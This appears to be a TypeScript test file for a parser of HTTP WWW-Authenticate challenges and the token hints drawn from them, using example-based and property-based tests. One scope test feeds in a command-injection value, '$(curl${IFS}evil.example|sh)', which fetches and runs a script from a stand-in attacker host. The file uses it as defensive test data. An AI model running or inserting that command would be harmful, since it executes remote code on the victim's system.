import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { tokenHints, parseChallenges } from '../../core/auth/issuer/challenge.ts';

const plain = (lines: string[]) =>
  parseChallenges(lines).map(({ scheme, parameters }) => [scheme, Object.fromEntries(parameters)]);

describe('a WWW-Authenticate header', () => {
  test('may hold several challenges in one line', () => {
    expect(plain(['Basic realm="a, b", Bearer resource_metadata="https://x/y", scope="one two"'])).toEqual([
      ['basic', { realm: 'a, b' }],
      ['bearer', { resource_metadata: 'https://x/y', scope: 'one two' }],
    ]);
  });

  test('may come in several lines', () => {
    expect(plain(['Negotiate', 'Bearer error=invalid_token'])).toEqual([
      ['negotiate', {}],
      ['bearer', { error: 'invalid_token' }],
    ]);
  });

  test('may hold an opaque word, spaces around "=", capitals and empty list items', () => {
    expect(plain(['Negotiate dG9r/ZW4==, , BEARER Scope = "a" ,Error="b"'])).toEqual([
      ['negotiate', {}],
      ['bearer', { scope: 'a', error: 'b' }],
    ]);
  });

  test('may escape characters in quoted strings', () => {
    expect(plain(['Bearer realm="say \\"hi\\", Basic x=\\"y\\""'])).toEqual([
      ['bearer', { realm: 'say "hi", Basic x="y"' }],
    ]);
  });

  test('may leave an address unquoted', () => {
    expect(plain(['Bearer resource_metadata=https://x/y?a=b, scope=s'])).toEqual([
      ['bearer', { resource_metadata: 'https://x/y?a=b', scope: 's' }],
    ]);
  });

  test('is read up to its first nonsense', () => {
    expect(plain(['Bearer scope="a", error="never closed'])).toEqual([['bearer', { scope: 'a' }]]);
    expect(plain(['"', '', '=', ', ,'])).toEqual([]);
  });

  test('keeps the first of two equal parameters', () => {
    expect(plain(['Bearer scope="a", scope="b"'])).toEqual([['bearer', { scope: 'a' }]]);
  });

  test('gives the hints of the challenge for a token that points to metadata', () => {
    expect(
      tokenHints(['Bearer realm="old"', 'Basic realm="x", Bearer resource_metadata="https://x", scope="s"']),
    ).toEqual({ resourceMetadata: 'https://x', scope: 's' });
    expect(tokenHints(['DPoP algs="ES256", resource_metadata="https://x", error="invalid_token"'])).toEqual({
      resourceMetadata: 'https://x',
      error: 'invalid_token',
    });
    expect(tokenHints(['Basic resource_metadata="https://x"'])).toEqual({});
    expect(tokenHints([])).toEqual({});
  });

  test("gives the error and the server's words about it, cut where they never end", () => {
    expect(
      tokenHints(['Bearer error="insufficient_scope", scope="write", error_description="You may only read."']),
    ).toEqual({
      error: 'insufficient_scope',
      scope: 'write',
      description: 'You may only read.',
    });
    expect(tokenHints([`Bearer error_description="${'long '.repeat(1000)}"`]).description).toHaveLength(500);
    // An empty scope is a word of the server's, not none.
    expect(tokenHints(['Bearer scope=""'])).toEqual({ scope: '' });
  });

  test('may name scopes: only words that can be scopes count, and no endless number of them', () => {
    const scopeOf = (scope: string) => tokenHints([`Bearer scope="${scope}"`]).scope;
    expect(scopeOf('read  $(curl${IFS}evil.example|sh) caf\u00e9 a\tb \\"quoted\\" write:all')).toBe(
      'read $(curl${IFS}evil.example|sh) write:all',
    );
    expect(scopeOf(`${'a'.repeat(201)} b`)).toBe('b');
    expect(scopeOf('s '.repeat(100))?.split(' ')).toHaveLength(32);
  });

  test('never breaks the reader, whatever it holds', () => {
    const line = fc.string({ unit: fc.constantFrom('a', 'B', '=', '"', '\\', ',', ' ', '\t', 'é', 'Bearer ') });
    fc.assert(fc.property(fc.array(line), (lines) => Array.isArray(parseChallenges(lines))));
  });

  test('gives back what was quoted into it', () => {
    const value = fc.string({ unit: fc.constantFrom('a', '"', '\\', ',', ' ', '=') });
    fc.assert(
      fc.property(value, value, (realm, scope) => {
        const quoted = [realm, scope].map((text) => `"${text.replaceAll(/["\\]/g, '\\$&')}"`);
        expect(plain([`Basic realm=${quoted[0]}, Bearer scope=${quoted[1]}`])).toEqual([
          ['basic', { realm }],
          ['bearer', { scope }],
        ]);
      }),
    );
  });
});
